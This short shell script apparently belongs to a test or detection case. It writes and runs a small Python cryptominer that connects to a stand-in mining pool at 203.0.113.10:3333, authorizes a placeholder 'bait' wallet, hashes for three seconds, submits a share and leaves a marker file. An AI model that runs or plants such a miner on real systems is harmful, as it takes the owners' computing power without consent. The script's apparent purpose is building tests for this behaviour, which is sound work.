#!/bin/sh
. /opt/case/case.sh

cat >/tmp/m.py <<'EOF'
import hashlib, json, socket, time
pool = socket.create_connection(("203.0.113.10", 3333))
ask = lambda number, method, words: pool.sendall(json.dumps({"id": number, "method": method, "params": words}).encode() + b"\n")
ask(1, "mining.subscribe", ["cpuminer/2.5.1"])
job = pool.recv(4096)
ask(2, "mining.authorize", ["bc1qbaitbaitbaitbait.x", "x"])
end, nonce = time.monotonic() + 3, 0
while time.monotonic() < end:
    hashlib.sha256(hashlib.sha256(job + nonce.to_bytes(8, "little")).digest()).digest()
    nonce += 1
ask(4, "mining.submit", ["bc1qbaitbaitbaitbait.x", "1", "0", "0", "0"])
open("/tmp/reached", "w").write(str(nonce))
EOF
python3 /tmp/m.py
test -s /tmp/reached
took_place
